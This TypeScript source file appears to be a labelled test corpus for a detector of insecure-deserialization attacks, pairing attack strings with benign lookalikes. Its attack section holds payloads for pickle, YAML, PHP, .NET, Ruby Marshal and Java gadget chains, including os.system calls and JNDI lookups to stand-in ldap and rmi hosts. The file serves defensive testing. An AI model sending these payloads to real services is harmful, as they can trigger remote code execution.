import { base64, hex, fill, java, pickle } from './bytes.ts'
import type { CategoryCorpus } from './corpus.ts'
import { carried, cross, dev, some } from './corpus.ts'

export const deserializationCorpus: CategoryCorpus = {
  category: 'deserialization',
  attacks: [
    dev(
      'java',
      carried([
        base64(java),
        hex(java),
        `session=${base64(java)}`,
        base64(`\xac\xed\0\x05ur\0\x13[Ljava.lang.Object;${fill(30)}`),
        '\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashMap',
      ]),
    ),
    dev(
      'php objects',
      carried(
        some(
          16,
          cross(
            ['', 'data=', 'cookie: '],
            ['O:4:"User":1:', 'O:8:"stdClass":2:', 'O:6:"Logger":1:', 'O:11:"PharArchive":1:'],
            ['{s:4:"file";s:9:"shell.php";}', '{s:5:"admin";b:1;}'],
          ),
        ),
      ),
    ),
    dev('pickle', [
      ...[
        ['posix', 'system'],
        ['os', 'system'],
        ['builtins', 'eval'],
        ['subprocess', 'check_output'],
      ].map(([module, name]) => base64(pickle(module!, name!))),
      "cos\nsystem\n(S'id'\ntR.",
      "cposix\nsystem\n(S'ls'\ntR.",
      "c__builtin__\neval\n(S'1'\ntR.",
    ]),
    dev('tags and functions', [
      "!!python/object/apply:os.system ['id']",
      '!!python/object/new:subprocess.Popen [["id"]]',
      '{"rce":"_$$ND_FUNC$$_function(){require(\'x\')}()"}',
      '!ruby/object:Gem::Installer\ni: x',
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]',
      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
      '{"@type":"com.sun.rowset.JdbcRowSetImpl","autoCommit":true}',
      '!!js/function "function(){}"',
    ]),
    dev('dotnet and marshal', [
      base64(`\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0\x0c\x02\0\0\0ISystem, Version=4.0.0.0`),
      `state=${base64('\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0\x04\x01\0\0\0')}AAAA`,
      base64('\x04\x08o:\x15Gem::Requirement\x06:\x0a@listo:\x10Gem::X'),
      '\\x04\\bo:\\x15Gem::Requirement',
      '<ObjectDataProvider MethodName="Start" x:Key="p">',
      '{"__type":"System.Diagnostics.Process, System"}',
      '{"$type": "System.Diagnostics.Process, System", "StartInfo": {}}',
    ]),
    dev('java gadgets', [
      '<java><object class="java.lang.ProcessBuilder"><array/></object></java>',
      '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>',
      '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://h.example/a"}]',
      '{"@type":"org.apache.xbean.propertyeditor.JndiConverter","asText":"rmi://h/a"}',
      '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://h/a"}',
      '$$BCEL$$$l$8b$I$A$A$A',
      '<java.lang.ProcessBuilder><command/></java.lang.ProcessBuilder>',
      '{"@class":"java.lang.Runtime","x":1}',
    ]),
    dev('php and python variants', [
      'O:+4:"User":1:{s:1:"a";i:1;}',
      'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
      'O%3A4%3A%22User%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bi%3A1%3B%7D',
      'a:1:{i:0;O:4:"User":0:{}}',
      '!!python/name:os.system',
      '!!python/module:os',
      "(cos\nsystem\nS'id'\no.",
      `token=${base64(pickle('nt', 'system'))}`,
      base64(pickle('importlib', 'import_module')),
      'O:21:"App\\Models\\FileLogger":1:{s:4:"path";s:5:"a.php";}',
    ]),
  ],
  benign: [
    dev(
      'php arrays and JSON',
      some(
        20,
        cross(
          ['a:2:{i:0;s:1:"a";i:1;s:1:"', '{"type": "', '{"@type": "'],
          ['b', 'Person', 'Order'],
          ['";}', '", "name": "Ann"}', '"}'],
        ),
      ),
    ),
    dev('code', [
      'pickle.loads(data)',
      'yaml.safe_load(f)',
      'new ObjectInputStream(in).readObject()',
      'unserialize($row["meta"], ["allowed_classes" => false])',
      'Marshal.dump(obj)',
      'JSON.parse(text)',
      'import pickle',
      'BinaryFormatter is obsolete',
      '!!str 12',
      '!Ref Bucket',
      '!!binary aGVsbG8=',
      '"$type": "MyApp.Order, MyApp"',
      '{"$schema": "https://h.example"}',
      'class User implements Serializable',
      'private static final long serialVersionUID = 1L;',
    ]),
    dev('tokens and hashes', [
      ...Array.from({ length: 20 }, (_none, i) => base64(fill(40 + i)).slice(i % 5)),
      ...Array.from({ length: 10 }, (_none, i) => hex(fill(16 + i))),
    ]),
    dev('texts', [
      'O: 3 apples, 4 pears',
      'C:\\Users\\ann',
      'O:-)',
      'o:p tags in Word HTML',
      'the rO0 level',
      'aced the exam 0005 times',
      'cos x, sin y',
      'system\n(S)',
      'PHP: O:n is the object mark',
      'gasV: gas volume',
    ]),
    dev(
      'documents',
      some(
        20,
        cross(
          ['{"id": ', 'key: ', 'session='],
          [
            '"eyJhbGciOiJIUzI1NiJ9.e30.abc"',
            'AAAAB3NzaC1yc2EAAAADAQABAAABgQ',
            'MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A',
            'iVBORw0KGgoAAAANSUhEUgAAAAEA',
            'R0lGODlhAQABAIAAAAAAAP',
          ],
          ['}', ''],
        ),
      ),
    ),
    dev('questions', [
      'Why is pickle unsafe?',
      'How do I serialize a class in PHP?',
      'What replaces BinaryFormatter in .NET 8?',
      'Explain Java serialization and its alternatives.',
      'How do custom YAML tags work?',
      'Does Ruby Marshal keep singleton methods?',
      'Convert this PHP array to JSON: a:1:{s:1:"k";s:1:"v";}',
      'What is ViewState in ASP.NET?',
      'Should I use protobuf or JSON?',
      'How does node-serialize differ from JSON?',
    ]),
  ],
}
